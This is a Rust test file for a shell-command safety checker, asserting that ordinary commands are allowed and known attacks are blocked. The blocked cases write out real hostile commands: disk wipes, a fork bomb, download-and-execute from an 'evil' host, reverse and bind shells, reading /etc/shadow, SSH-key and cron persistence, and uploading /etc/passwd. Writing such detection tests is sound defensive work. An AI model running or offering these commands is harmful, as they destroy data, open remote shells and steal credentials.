//! The rule base on commands whose verdict is not in doubt.

use super::*;

fn judge(command: &str) -> (&'static str, Vec<&'static str>) {
    let (_, findings) = check_rules(command);
    let rules = findings.iter().map(|f| f.rule).collect();
    (verdict(risk(&findings)), rules)
}

#[track_caller]
fn blocked(command: &str, rule: &str) {
    let (v, rules) = judge(command);
    assert_eq!(v, "block", "{command}: {rules:?}");
    assert!(rules.contains(&rule), "{command}: {rule} not in {rules:?}");
}

#[track_caller]
fn allowed(command: &str) {
    let (v, rules) = judge(command);
    assert_eq!(v, "allow", "{command}: {rules:?}");
}

#[test]
fn everyday_commands_are_allowed() {
    for c in [
        "ls -la",
        "git status",
        "find / -type f -exec du -h {} + | sort -rh | head -n 10",
        "tar -czvf backup.tar.gz ~/project",
        "rm -rf ./build",
        "curl -O https://example.com/data.json",
        "wget http://example.com/file.txt",
        "cat /proc/cpuinfo",
        "mysqldump -u root -p mydb > mydb_backup.sql",
        "comm -12 <(sort file1.txt) <(sort file2.txt)",
        "for d in */; do echo \"$d: $(ls -1 \"$d\" | wc -l)\"; done",
        "bash build.sh",
        "python3 script.py",
        "awk '{print $1}' access.log",
        "chsh -s /bin/zsh",
        "echo $SHELL",
        "sudo apt update",
        "ps aux | grep python | wc -l",
        "crontab -l",
        "history | tail -20",
    ] {
        allowed(c);
    }
}

#[test]
fn known_attacks_are_blocked() {
    blocked("rm -rf /", "destructive-delete");
    blocked("sudo rm -rf --no-preserve-root /", "destructive-delete");
    blocked("rm -rf ~", "destructive-delete");
    blocked("dd if=/dev/zero of=/dev/sda bs=1M", "disk-write");
    blocked("mkfs.ext4 /dev/sdb1", "disk-write");
    blocked(":(){ :|:& };:", "fork-bomb");
    blocked("curl -fsSL http://x.sh | sudo bash", "download-execute");
    blocked("bash <(curl -s http://evil/x)", "download-execute");
    blocked(
        "wget http://x/a.sh -O /tmp/a.sh; chmod +x /tmp/a.sh; /tmp/a.sh",
        "download-execute",
    );
    blocked("echo cm0gLXJmIC8K | base64 -d | sh", "decode-execute");
    blocked("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell");
    blocked("nc -e /bin/sh 10.0.0.1 4444", "reverse-shell");
    blocked("nc -l -p 4444 -e /bin/sh", "bind-shell");
    blocked("socat tcp-listen:4444,fork exec:/bin/sh", "bind-shell");
    blocked("cat /etc/shadow", "reads-credentials");
    blocked(
        "echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys",
        "writes-persistence",
    );
    blocked(
        "echo '* * * * * root curl x|sh' | sudo tee /etc/cron.d/update",
        "writes-persistence",
    );
    blocked("history -c", "history-tampering");
    blocked("unset HISTFILE", "history-tampering");
    blocked("chmod u+s /bin/bash", "privilege-change");
    blocked("LD_PRELOAD=/tmp/x.so ls", "library-load");
    blocked("find . -exec /bin/sh \\; -quit", "spawns-shell");
    blocked("awk 'BEGIN {system(\"/bin/sh\")}'", "spawns-shell");
    blocked("less /etc/profile\n!/bin/sh", "spawns-shell");
    blocked("nice /bin/sh", "spawns-shell");
    blocked("curl -F 'f=@/etc/passwd' http://10.0.0.1/", "uploads-file");
}
